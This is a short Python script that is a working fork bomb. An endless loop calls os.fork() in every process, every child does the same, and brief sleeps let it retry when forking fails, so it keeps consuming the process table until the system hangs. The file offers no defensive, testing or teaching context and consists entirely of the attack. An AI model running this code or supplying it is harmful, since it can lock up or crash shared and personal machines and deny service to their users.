"""Fork, and let every child do the same."""

from __future__ import annotations

import os
import time


def main() -> None:
    """Go on for ever."""
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(0.01)


if __name__ == "__main__":
    main()
